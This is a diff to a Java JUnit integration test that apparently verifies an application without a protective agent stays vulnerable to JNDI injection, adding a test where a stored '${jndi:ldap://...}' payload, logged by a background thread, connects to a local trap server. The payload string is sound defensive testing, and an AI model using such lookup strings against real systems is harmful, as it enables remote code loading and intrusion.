@@ -8,6 +8,7 @@ import java.util.ArrayList;
 import java.util.List;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
@@ -77,5 +78,13 @@ class JndiVulnerableWithoutAgentIT {
         assertEquals(200, r.status(), c + ": " + r);
         assertTrue(r.body().contains(c.expect()), c + ": the answer lacks " + c.expect() + ": " + r);
         assertEquals(before, trap.connections(), c + ": a connection reached the trap");
+    }
+
+    @Test
+    void storedPayloadLoggedByABackgroundThreadConnects() {
+        int before = trap.connections();
+        String status = JndiBlockModeIT.storeAndAwaitLogging(http("spring"),
+            "${jndi:ldap://127.0.0.1:" + trap.port() + "/stored}");
+        assertTrue(trap.connectedSince(before, 5000), "no connection reached the trap; status " + status);
     }
 }
